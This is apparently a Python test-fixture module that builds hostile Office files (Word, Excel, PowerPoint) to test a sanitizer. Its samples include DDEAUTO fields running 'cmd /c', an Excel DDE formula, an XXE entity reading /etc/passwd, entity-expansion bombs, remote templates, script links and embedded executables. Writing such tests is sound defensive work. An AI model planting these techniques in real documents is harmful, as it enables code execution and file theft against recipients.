"""Office documents that run, fetch, or carry something."""

from collections.abc import Iterator

from tests.files import made
from tests.files.hostile.sample import Hostile
from tests.files.made import office, relation, relations, zipped


def _rels(part: str, *rows: str) -> dict[str, str]:
    folder, _, name = part.rpartition("/")
    return {f"{folder}/_rels/{name}.rels": relations(*rows)}


def _field(*runs: str) -> str:
    inner = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    return f'<w:document xmlns:w="{made.WORD}"><w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{inner}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>'


def _sheet(formula: str) -> dict[str, str]:
    return {
        "xl/worksheets/sheet1.xml": f'<worksheet xmlns="urn:x"><sheetData><c><f>{formula}</f></c></sheetData></worksheet>'
    }


def samples() -> Iterator[Hostile]:
    macro = "application/vnd.ms-word.document.macroEnabled.main+xml"
    yield Hostile("docm", "a.docm", office)
    yield Hostile("doc-old", "a.doc", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600)
    yield Hostile(
        "ole-named-docx", "a.docx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
    )
    yield Hostile("docm-named-docx", "a.docx", lambda: office(main_type=macro))
    yield Hostile("docx-vba", "a.docx", lambda: office(parts={"word/vbaProject.bin": b"x"}))
    yield Hostile(
        "docx-vba-renamed",
        "a.docx",
        lambda: office(
            parts={"word/thing.xml": "<a/>"},
            types='<Override PartName="/word/thing.xml" ContentType="application/vnd.ms-office.vbaProject"/>',
        ),
    )
    yield Hostile(
        "docx-activex", "a.docx", lambda: office(parts={"word/activeX/activeX1.xml": "<a/>"})
    )
    yield Hostile(
        "docx-ole", "a.docx", lambda: office(parts={"word/embeddings/oleObject1.bin": b"x"})
    )
    yield Hostile(
        "docx-package",
        "a.docx",
        lambda: office(
            parts={"word/embeddings/x.xlsx": b"PK"}
            | _rels("word/document.xml", relation("package", "embeddings/x.xlsx"))
        ),
    )
    yield Hostile("docx-exe", "a.docx", lambda: office(parts={"word/media/run.exe": b"MZ"}))
    yield Hostile(
        "docx-html-chunk",
        "a.docx",
        lambda: office(parts={"word/chunk.html": b"<script>1</script>"}),
    )
    yield Hostile(
        "docx-remote-template",
        "a.docx",
        lambda: office(
            parts={
                "word/settings.xml": f'<w:settings xmlns:w="{made.WORD}" xmlns:r="{made.OFFICE}"><w:attachedTemplate r:id="rId1"/></w:settings>'
            }
            | _rels(
                "word/settings.xml",
                relation("attachedTemplate", "https://x.example/CANARY.dotm", external=True),
            )
        ),
        "cleaned",
        (b"CANARY", b"attachedTemplate"),
    )
    yield Hostile("docx-author", "a.docx", office, "cleaned", (b"CANARY-AUTHOR", b"CANARY-COMPANY"))
    yield Hostile(
        "docx-photo",
        "a.docx",
        lambda: office(parts={"word/media/image1.jpeg": made.photo()}),
        "cleaned",
        (b"CANARY",),
    )
    yield Hostile(
        "docx-link-script",
        "a.docx",
        lambda: office(
            parts=_rels(
                "word/document.xml", relation("hyperlink", "javascript:CANARY", external=True)
            )
        ),
        "cleaned",
        (b"CANARY",),
    )
    yield Hostile(
        "docx-link-share",
        "a.docx",
        lambda: office(
            parts=_rels(
                "word/document.xml", relation("hyperlink", "file://host/CANARY", external=True)
            )
        ),
        "cleaned",
        (b"CANARY",),
    )
    for kind in ("oleObject", "frame", "image", "subDocument", "externalLinkPath", "video"):
        yield Hostile(
            f"docx-outside-{kind}",
            "a.docx",
            lambda kind=kind: office(
                parts=_rels(
                    "word/document.xml", relation(kind, "https://x.example/a", external=True)
                )
            ),
        )
    yield Hostile(
        "docx-hidden-outside",
        "a.docx",
        lambda: office(
            parts=_rels("word/document.xml", relation("image", "file://host/share/a.png"))
        ),
    )
    yield Hostile("docx-dde", "a.docx", lambda: office(main=_field('DDEAUTO "cmd" "/c x"')))
    yield Hostile("docx-dde-split", "a.docx", lambda: office(main=_field("DD", "EAU", "TO cmd x")))
    yield Hostile("docx-dde-quote", "a.docx", lambda: office(main=_field("QUOTE 68 68 69")))
    yield Hostile("docx-dde-nameless", "a.docx", lambda: office(main=_field("  ")))
    yield Hostile(
        "docx-include",
        "a.docx",
        lambda: office(main=_field('INCLUDEPICTURE "https://x.example/a.png"')),
    )
    yield Hostile(
        "docx-dtd",
        "a.docx",
        lambda: office(main='<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
    )
    yield Hostile(
        "docx-laughs",
        "a.docx",
        lambda: office(main='<!DOCTYPE a [<!ENTITY b "bbbb"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>'),
    )
    yield Hostile(
        "docx-utf16-dtd",
        "a.docx",
        lambda: office(
            parts={
                "word/x.xml": '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a><a/>'.encode(
                    "utf-16"
                )
            }
        ),
    )
    yield Hostile("docx-deep-xml", "a.docx", lambda: office(main="<a>" * 5_000 + "</a>" * 5_000))
    yield Hostile("docx-no-main", "a.docx", lambda: office(parts={"word/document.xml": None}))
    yield Hostile("xlsx-named-docx", "a.docx", lambda: office("xlsx"))
    yield Hostile("zip-named-docx", "a.docx", lambda: zipped({"readme.txt": "x"}))
    yield Hostile(
        "xlsx-external-book",
        "a.xlsx",
        lambda: office("xlsx", {"xl/externalLinks/externalLink1.xml": "<a/>"}),
    )
    yield Hostile(
        "xlsx-connection", "a.xlsx", lambda: office("xlsx", {"xl/connections.xml": "<a/>"})
    )
    yield Hostile(
        "xlsx-macro-sheet", "a.xlsx", lambda: office("xlsx", {"xl/macrosheets/sheet1.xml": "<a/>"})
    )
    yield Hostile(
        "xlsx-webservice",
        "a.xlsx",
        lambda: office("xlsx", _sheet('_xlfn.WEBSERVICE("https://x.example")')),
    )
    yield Hostile("xlsx-dde", "a.xlsx", lambda: office("xlsx", _sheet("cmd|' /c x'!A1")))
    yield Hostile("xlsb", "a.xlsb", lambda: office("xlsx"))
    yield Hostile(
        "pptx-program",
        "a.pptx",
        lambda: office(
            "pptx", {"ppt/slides/slide1.xml": '<a><b action="ppaction://program"/></a>'}
        ),
    )
    yield Hostile(
        "pptx-svg-script",
        "a.pptx",
        lambda: office(
            "pptx", {"ppt/media/a.svg": "<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>"}
        ),
    )
    yield Hostile(
        "pptx-svg-handler",
        "a.pptx",
        lambda: office(
            "pptx", {"ppt/media/a.svg": "<svg xmlns='http://www.w3.org/2000/svg' onload='x'/>"}
        ),
    )
    yield Hostile(
        "pptx-chart-data",
        "a.pptx",
        lambda: office(
            "pptx",
            {
                "ppt/embeddings/book1.xlsx": b"PK CANARY-BOOK",
                "ppt/charts/chart1.xml": '<c:chartSpace xmlns:c="urn:c" xmlns:r="urn:r"><c:externalData r:id="rId1"><c:autoUpdate/></c:externalData></c:chartSpace>',
            }
            | _rels("ppt/charts/chart1.xml", relation("package", "../embeddings/book1.xlsx")),
        ),
        "cleaned",
        (b"CANARY-BOOK", b"externalData"),
    )
    yield Hostile(
        "docx-exe-behind",
        "a.docx",
        lambda: office() + b"MZ CANARY-TAIL",
        "cleaned",
        (b"CANARY-TAIL",),
    )
    yield Hostile("docx-exe-before", "a.docx", lambda: b"MZ\x90\0" * 9 + office())
